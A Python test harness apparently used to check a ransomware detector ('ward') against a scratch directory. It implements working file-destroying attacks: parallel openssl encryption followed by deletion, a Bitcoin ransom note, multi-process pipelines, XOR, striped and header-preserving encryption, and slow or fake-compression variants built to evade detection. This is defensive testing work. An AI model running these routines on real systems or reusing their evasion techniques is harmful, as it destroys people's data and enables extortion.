#!/usr/bin/env python3
"""Attacks of issue 10's behaviour classes, against a ward-sim scratch directory only.

usage: attacks.py VARIANT ROOT        (see VARIANTS at the bottom)

Each variant destroys the pre-existing files one after the other, as fast as it can (the
slow ones pause), and exits 0 when it got through them all: a run that ends by itself was
not contained.
"""

import base64
import binascii
import os
import random
import struct
import subprocess
import sys
import time

sys.dont_write_bytecode = True  # no __pycache__ in the checkout
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import (  # noqa: E402
    encrypt,
    inside,
    overwrite,
    png_build,
    png_chunks,
    read,
    scratch,
    subdir,
    victims,
    zip_local_entries,
)

HERE = os.path.abspath(__file__)
FIND = "find . -type f ! -name '.*' ! -name '!*' ! -name '*.x' ! -name '*.enc'"


# --- 1. multi-process pipelines ---------------------------------------------------------


# find | xargs -P4: one `sh` per file runs openssl (encrypts) then rm (deletes).
XARGS = (
    "-print0 | xargs -0 -P4 -n1 sh -c "
    "'openssl enc -aes-256-cbc -pbkdf2 -pass pass:hunter2 -in \"$1\" -out \"$1.x\" "
    "&& rm -f -- \"$1\"' _"
)


def departments(root):
    depts = [d for d in sorted(os.listdir(root)) if d[0] not in ".!"]
    return [subdir(root, d) for d in depts if os.path.isdir(os.path.join(root, d))]


def pipe_xargs(root):
    """find | xargs -P4 over the whole share."""
    subprocess.run(["sh", "-c", f"{FIND} {XARGS}"], cwd=root, check=True)


def pipe_xargs_per_dept(root):
    """The same xargs pipeline, started anew by the driver for each department."""
    for dept in departments(root):
        subprocess.run(["sh", "-c", f"{FIND} {XARGS}"], cwd=dept)


def pipe_notes(root):
    """Per department: a short-lived `cp` drops a ransom note, then the xargs pipeline
    encrypts and deletes. Every note is the attacker's file, written by a process that is
    gone before ward reads its events: all of them must be quarantined."""
    note = os.path.join(root, ".note-src")
    with open(note, "w") as f:
        f.write("Your files are encrypted. Send 1 BTC to recover them.\n")
    for dept in departments(root):
        cmd = f"cp {note} HOW_TO_DECRYPT.txt && {FIND} ! -name HOW_TO_DECRYPT.txt {XARGS}"
        subprocess.run(["sh", "-c", cmd], cwd=dept, check=True)


def pipe_shell(root):
    """A shell pipeline per file: cat reads, openssl encrypts, dd writes, rm deletes —
    four siblings under one shell."""
    cmd = (
        f"{FIND} | while IFS= read -r f; do "
        "cat -- \"$f\" | openssl enc -aes-128-ctr -nosalt "
        "-K 000102030405060708090a0b0c0d0e0f -iv 0f0e0d0c0b0a09080706050403020100 "
        "| dd of=\"$f.enc\" status=none && rm -f -- \"$f\"; done"
    )
    subprocess.run(["sh", "-c", cmd], cwd=root, check=True)


def pipe_python(root):
    """Three exec'd python children of one parent: a reader streams each victim to an
    encryptor, which writes `<victim>.enc` and tells a deleter to unlink the victim."""
    py = sys.executable
    reader = subprocess.Popen([py, HERE, "role-reader", root], stdout=subprocess.PIPE)
    enc = subprocess.Popen(
        [py, HERE, "role-encryptor", root], stdin=reader.stdout, stdout=subprocess.PIPE
    )
    dele = subprocess.Popen([py, HERE, "role-deleter", root], stdin=enc.stdout)
    reader.stdout.close()
    enc.stdout.close()
    codes = [p.wait() for p in (reader, enc, dele)]
    if any(codes):
        sys.exit(f"children failed: {codes}")


def role_reader(root):
    out = sys.stdout.buffer
    for p in victims(root, shuffle=1):
        data = read(p)
        name = p.encode()
        out.write(struct.pack("<II", len(name), len(data)) + name + data)
        out.flush()


def role_encryptor(root):
    inp, out = sys.stdin.buffer, sys.stdout.buffer
    while True:
        head = inp.read(8)
        if len(head) < 8:
            return
        n, m = struct.unpack("<II", head)
        path = inside(root, inp.read(n).decode())
        data = inp.read(m)
        with open(path + ".enc", "wb") as f:
            f.write(encrypt(data))
        out.write(path.encode() + b"\n")
        out.flush()


def role_deleter(root):
    for line in sys.stdin.buffer:
        os.unlink(inside(root, line.decode().rstrip("\n")))


# --- 2. armour ----------------------------------------------------------------------------


def lines(b, width=76):
    return b"\n".join(b[i : i + width] for i in range(0, len(b), width)) + b"\n"


def uuencode(data, name):
    out = [b"begin 644 " + name.encode()]
    for i in range(0, len(data), 45):
        out.append(binascii.b2a_uu(data[i : i + 45]).rstrip(b"\n"))
    out += [b"`", b"end", b""]
    return b"\n".join(out)


ARMOUR = {
    "hex": lambda d, n: d.hex().encode(),
    "hex-sep": lambda d, n: lines(d.hex(" ").encode(), 48),
    "base32": lambda d, n: base64.b32encode(d),
    "ascii85": lambda d, n: base64.a85encode(d, wrapcol=76),
    "uuencode": uuencode,
    "base64-lines": lambda d, n: lines(base64.b64encode(d)),
    "base64-banner": lambda d, n: b"-----BEGIN ENCRYPTED FILE-----\n"
    + lines(base64.b64encode(d), 64)
    + b"-----END ENCRYPTED FILE-----\n",
}


def armour(kind):
    def run(root):
        for p in victims(root, shuffle=2):
            overwrite(p, ARMOUR[kind](encrypt(read(p)), os.path.basename(p)))

    return run


# --- 3. short-key XOR and weak ciphers -----------------------------------------------------

WEAK_FORMATS = ["docx", "xlsx", "zip", "pdf", "png", "csv", "txt", "md", "log"]


def xor(keylen):
    def run(root):
        key = os.urandom(keylen)
        for p in victims(root, WEAK_FORMATS, shuffle=3):
            d = read(p)
            overwrite(p, bytes(b ^ key[i % keylen] for i, b in enumerate(d)))

    return run


def substitution(root):
    """A random byte permutation: entropy unchanged, every format gone."""
    table = list(range(256))
    random.Random(os.urandom(8)).shuffle(table)
    t = bytes(table)
    for p in victims(root, WEAK_FORMATS, shuffle=3):
        overwrite(p, read(p).translate(t))


# --- 4. striped / partial encryption --------------------------------------------------------


def striped(skip, stride, length, min_size):
    def run(root):
        for p in victims(root, min_size=min_size, shuffle=4):
            size = os.path.getsize(p)
            with open(p, "r+b") as f:
                o = skip
                while o < size:
                    f.seek(o)
                    f.write(os.urandom(min(length, size - o)))
                    o += stride

    return run


def tail(root):
    """Only the tail: the last quarter of each file (at most 64 KiB)."""
    for p in victims(root, min_size=4096, shuffle=4):
        size = os.path.getsize(p)
        n = min(size // 4, 65536)
        with open(p, "r+b") as f:
            f.seek(size - n)
            f.write(os.urandom(n))


# --- 5. header-preserving encryption of compressed formats ----------------------------------

COMPRESSED = ["docx", "xlsx", "zip", "png", "gz", "pdf"]


def structured(root):
    """Keep every structure a parser checks first: zip local headers and central
    directory (entry data replaced), PNG chunks with valid CRCs (IDAT replaced), the
    10-byte gzip header; PDFs keep their first KiB."""
    for p in victims(root, COMPRESSED, shuffle=5):
        d = bytearray(read(p))
        ents = zip_local_entries(d)
        chunks = png_chunks(bytes(d))
        if ents:
            for _, s, e in ents:
                d[s:e] = os.urandom(e - s)
            out = bytes(d)
        elif chunks:
            out = png_build([(t, os.urandom(len(b)) if t == b"IDAT" else b) for t, b in chunks])
        elif d[:2] == b"\x1f\x8b":
            out = bytes(d[:10]) + os.urandom(len(d) - 10)
        else:
            k = min(1024, len(d) // 4)
            out = bytes(d[:k]) + os.urandom(len(d) - k)
        overwrite(p, out)


def head_keep(root):
    """Keep the first bytes that identify the format (zip local header + name, PNG
    signature + IHDR, gzip header, %PDF line) and encrypt everything after them."""
    for p in victims(root, COMPRESSED, shuffle=5):
        d = read(p)
        if d[:4] == b"PK\x03\x04":
            nlen, xlen = struct.unpack("<HH", d[26:30])
            k = 30 + nlen + xlen
        elif d[:8] == b"\x89PNG\r\n\x1a\n":
            k = 33
        elif d[:2] == b"\x1f\x8b":
            k = 10
        else:
            k = d.find(b"\n") + 1 or 16
        overwrite(p, d[:k] + encrypt(d[k:]))


# --- 6. writes through descriptors held open -------------------------------------------------


def held(cipher):
    def run(root):
        fds = [os.open(p, os.O_RDWR) for p in victims(root, shuffle=6)]
        key = os.urandom(3)
        for fd in fds:
            size = os.fstat(fd).st_size
            data = os.pread(fd, size, 0)
            if cipher == "random":
                new = encrypt(data)
            else:
                new = bytes(b ^ key[i % 3] for i, b in enumerate(data))
            os.pwrite(fd, new, 0)
        for fd in fds:
            os.close(fd)

    return run


# --- 7. slow attackers across process restarts ------------------------------------------------

SLOW_FILES = 14


def slow_one(root, rel_list):
    """One short-lived process: encrypt the given victims in place, then exit."""
    for p in rel_list:
        p = inside(root, p)
        overwrite(p, encrypt(read(p)))


def slow_loop(root):
    """A shell loop re-launches a fresh python every 2 s, two files each."""
    vs = victims(root, shuffle=7)[:SLOW_FILES]
    batches = [" ".join(f"'{v}'" for v in vs[i : i + 2]) for i in range(0, len(vs), 2)]
    script = "".join(
        f"{sys.executable} {HERE} role-slow {root} {b}; sleep 2\n" for b in batches
    )
    subprocess.run(["sh", "-c", script], check=True)


def slow_parent(root):
    """One parent starts a new child per file, pausing 1.5 s between them."""
    for v in victims(root, shuffle=7)[:SLOW_FILES]:
        subprocess.run([sys.executable, HERE, "role-slow", root, v], check=True)
        time.sleep(1.5)


# --- 8. fake compression ---------------------------------------------------------------------


def fake_compressed(root):
    """Random bytes behind a gzip or zlib header: claims to be compressed, decodes to
    nothing. Alternates the two."""
    for i, p in enumerate(victims(root, shuffle=8)):
        d = read(p)
        head = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" if i % 2 == 0 else b"\x78\x9c"
        overwrite(p, head + encrypt(d))


VARIANTS = {
    "pipe-xargs": pipe_xargs,
    "pipe-xargs-per-dept": pipe_xargs_per_dept,
    "pipe-notes": pipe_notes,
    "pipe-shell": pipe_shell,
    "pipe-python": pipe_python,
    **{f"armour-{k}": armour(k) for k in ARMOUR},
    "xor-1": xor(1),
    "xor-4": xor(4),
    "xor-16": xor(16),
    "substitution": substitution,
    "stripe-64k-skip": striped(65536, 65536, 4096, 65536 + 4096),
    "stripe-512-of-4k": striped(4096, 4096, 512, 8192),
    "stripe-tail": tail,
    "header-structured": structured,
    "header-keep": head_keep,
    "held-random": held("random"),
    "held-xor": held("xor"),
    "slow-loop": slow_loop,
    "slow-parent": slow_parent,
    "fake-compressed": fake_compressed,
}

ROLES = {
    "role-reader": role_reader,
    "role-encryptor": role_encryptor,
    "role-deleter": role_deleter,
}


def main():
    if len(sys.argv) < 3:
        sys.exit(f"usage: {sys.argv[0]} VARIANT ROOT\nvariants: {', '.join(VARIANTS)}")
    name, root = sys.argv[1], scratch(sys.argv[2])
    if name == "role-slow":
        slow_one(root, sys.argv[3:])
    elif name in ROLES:
        ROLES[name](root)
    elif name in VARIANTS:
        VARIANTS[name](root)
    else:
        sys.exit(f"unknown variant {name}")


if __name__ == "__main__":
    main()
